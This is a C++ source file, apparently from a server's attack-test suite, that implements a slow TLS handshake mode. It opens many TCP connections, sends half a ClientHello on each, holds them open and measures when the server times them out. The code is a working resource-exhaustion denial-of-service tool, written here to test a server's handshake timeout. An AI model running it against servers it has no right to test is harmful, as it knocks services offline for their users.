// slow-handshake: TCP connections that each send the first half of a real TLS ClientHello and
// then nothing. Until the server's handshake timeout fires, each one holds a socket and a
// handshaker on the server.
#include <openssl/ssl.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <thread>
#include <vector>

#include "tests/attack/h2/attack_modes.h"

namespace edge::h2attack {
namespace {

using Clock = std::chrono::steady_clock;

// A ClientHello as OpenSSL would send it (ALPN h2), taken from a memory BIO.
Result<std::string> ClientHelloBytes() {
  SSL_CTX* ctx = SSL_CTX_new(TLS_client_method());
  if (!ctx) return Fail(ErrorCode::kInternal, "SSL_CTX_new failed");
  static const unsigned char kAlpn[] = {2, 'h', '2'};
  SSL_CTX_set_alpn_protos(ctx, kAlpn, sizeof(kAlpn));
  SSL* ssl = SSL_new(ctx);
  BIO* in = BIO_new(BIO_s_mem());
  BIO* out = BIO_new(BIO_s_mem());
  SSL_set_bio(ssl, in, out);  // ssl owns both
  SSL_set_connect_state(ssl);
  SSL_do_handshake(ssl);  // WANT_READ after writing the ClientHello
  std::string hello;
  char buf[4096];
  for (int n; (n = BIO_read(out, buf, sizeof(buf))) > 0;) hello.append(buf, static_cast<size_t>(n));
  SSL_free(ssl);
  SSL_CTX_free(ctx);
  if (hello.size() < 16) return Fail(ErrorCode::kInternal, "could not produce a ClientHello");
  return hello;
}

}  // namespace

Result<SlowHandshakeStats> RunSlowHandshake(const Options& options) {
  EDGE_ASSIGN_OR_RETURN(auto hello, ClientHelloBytes());
  const std::string partial = hello.substr(0, hello.size() / 2);
  SlowHandshakeStats st;
  const auto start = Clock::now();
  const auto deadline = start + options.duration;
  std::vector<pollfd> fds;
  std::vector<Clock::time_point> opened_at;
  for (int i = 0; i < options.connections && Clock::now() < deadline; ++i) {
    auto fd = ConnectTcp(options.target, std::chrono::milliseconds(2000));
    if (!fd) {
      ++st.connect_failed;
      if (st.first_error.empty()) st.first_error = fd.error().message;
      continue;
    }
    ++st.connects;
    const auto sent = send(*fd, partial.data(), partial.size(), MSG_NOSIGNAL);
    if (sent > 0) st.bytes_sent += static_cast<uint64_t>(sent);
    fds.push_back({*fd, POLLIN, 0});
    opened_at.push_back(Clock::now());
  }
  size_t open = fds.size();
  while (open > 0) {
    const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(deadline - Clock::now()).count();
    if (left <= 0) break;
    if (poll(fds.data(), fds.size(), static_cast<int>(std::min<int64_t>(left, 100))) <= 0) continue;
    for (size_t i = 0; i < fds.size(); ++i) {
      if (fds[i].fd < 0 || fds[i].revents == 0) continue;
      char buf[1024];
      const auto n = recv(fds[i].fd, buf, sizeof(buf), 0);
      if (n > 0) continue;  // the server said something (it should not before the hello is whole)
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) continue;
      ++st.closed_by_server;
      const auto after = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - opened_at[i]).count();
      if (st.first_close_ms < 0) st.first_close_ms = after;
      if (st.first_error.empty()) st.first_error = n == 0 ? "EOF" : std::strerror(errno);
      close(fds[i].fd);
      fds[i].fd = -1;  // poll ignores negative descriptors
      --open;
    }
  }
  st.open_at_end = open;
  for (auto& p : fds)
    if (p.fd >= 0) close(p.fd);
  return st;
}

}  // namespace edge::h2attack
